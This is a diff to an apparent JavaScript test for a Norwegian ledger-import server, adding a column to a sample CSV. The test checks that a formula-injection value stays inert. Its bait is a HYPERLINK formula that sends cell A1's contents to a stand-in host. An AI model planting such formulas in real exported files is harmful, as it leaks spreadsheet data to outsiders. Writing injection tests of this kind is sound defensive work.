@@ -98,7 +98,7 @@ describe('hostile input at the doors of the built server', () => {
 
   test('a formula stays text and leaves the product harmless', async () => {
     const bait = `=HYPERLINK("http://example.com?x="&A1;"se")`;
-    const ledger = `Bilagsnummer;Bilagsdato;Art;Leverandørnavn;Beløp\n1;03.03.2026;1150;"${bait.replaceAll('"', '""')}";100,00\n`;
+    const ledger = `Bilagsnummer;Bilagsdato;Art;Organisasjonsnummer;Leverandørnavn;Beløp\n1;03.03.2026;1150;311047116;"${bait.replaceAll('"', '""')}";100,00\n`;
     expect(await batch('hovedbok.csv', ledger)).toMatchObject({ state: 'posted', lines: 1, totals: { NOK: '100.00' } });
   });
 
